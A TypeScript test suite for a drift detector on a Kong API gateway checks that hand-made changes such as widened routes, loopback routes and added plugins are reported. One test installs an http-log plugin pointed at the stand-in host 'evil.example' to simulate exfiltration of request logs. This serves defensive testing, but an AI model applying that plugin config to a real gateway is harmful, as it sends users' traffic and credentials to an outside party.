import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Blueprint } from '../../../../src/blueprint/types.ts';
import { addressOfChange, changesOf } from '../../../../src/core/plan.ts';
import type { KongHand } from '../../../stack/sabotages/kong-hand.ts';
import { moreKongRows } from '../../../stack/sabotages/kong-more-rows.ts';
import { kongRows } from '../../../stack/sabotages/kong-rows.ts';
import { mismatches } from '../../../stack/sabotages/table.ts';
import type { Told } from '../../../stack/sabotages/table.ts';
import { env, load, sso } from '../../blueprint/loading.ts';
import { goodGateway } from './by-hand.ts';

const rows = [...kongRows, ...moreKongRows];
const addresses = { ORDERS_URL: 'http://localhost:19101', INVOICES_URL: 'http://127.0.0.1:19102', KONG_PROXY_URL: 'http://127.0.0.1:8000' };

describe('what somebody does by hand to a good gateway is told, and nothing else', () => {
  let blueprint: Blueprint;
  let gateway: Awaited<ReturnType<typeof goodGateway>>;
  let hand: KongHand;
  const lines = () => gateway.lines();
  beforeAll(async () => {
    blueprint = await load(await sso(), { env: { ...env, ...addresses } });
    gateway = await goodGateway(blueprint);
    ({ hand } = gateway);
    expect(gateway.failed).toEqual([]);
  });
  afterEach(() => hand.undo());
  afterAll(() => gateway.kong.close());

  it('nothing is told of what apply made', async () => expect(await lines()).toEqual([]));

  it('a route back to the gateway is told: a plugin there may put a credential on everybody', async () => {
    await hand.service('theirs', { protocol: 'http', host: '127.0.0.1', port: Number(new URL(gateway.kong.proxy.url).port) });
    await hand.route('theirs', 'round', { paths: ['/round'] });
    expect(mismatches([{ effect: 'opens', address: /^kong\.route\/round$/ }], await lines())).toEqual([]);
  });

  it('what everybody gets by a route of ours that is wider than the blueprint says is part of the plan', async () => {
    await hand.patch('/routes/shop.orders.health', { paths: ['~/orders.*'], regex_priority: 1000 });
    const { gains = [] } = await gateway.plan();
    expect(gains.map(({ by, gain }) => [by, 'request' in gain && gain.who])).toContainEqual(['kong.route/shop.orders.health', 'anybody']);
  });

  it.each(['shop.orders.health', 'shop.orders.list'])('%s, which a run that was cut short left closed, lets nobody in, and by which value it is closed is told to nobody', async (route) => {
    const value = '0123456789abcdef0123456789abcdef';
    await hand.patch(`/routes/${route}`, { headers: { 'x-authctl-pending': [value] } });
    const plan = await gateway.plan();
    expect(plan.gains ?? []).toEqual([]);
    expect(changesOf(plan).filter(({ action }) => action !== 'keep').map(addressOfChange)).toEqual([`kong.route/${route}`]);
    expect(JSON.stringify(plan)).not.toContain(value);
  });

  it('what is put on a service, or on a route, is told at its line of the blueprint', async () => {
    const originOfIt = async (place: string) => {
      await hand.plugin(place, { name: 'http-log', config: { http_endpoint: 'http://evil.example:9/x' } });
      const { dangers } = await gateway.plan();
      await hand.undo();
      return dangers.map((change) => ('danger' in change ? change.danger.origin : undefined));
    };
    expect(await originOfIt('/services/shop.orders')).toEqual([blueprint.at('services.orders')]);
    expect(await originOfIt('/routes/shop.orders.cancel')).toEqual([blueprint.at('services.orders.routes.cancel')]);
  });

  it.each(rows)('$what', async (row) => {
    await row.do(hand);
    // How bad a change is depends on who is in the realm, which is not here: the running stack is asked that.
    const told = row.told === 'silent' ? row.told : [row.told].flat().map(({ as: _as, ...one }: Told) => one);
    expect(mismatches(told, await lines())).toEqual([]);
    await hand.undo();
    expect(await lines()).toEqual([]);
  });
});
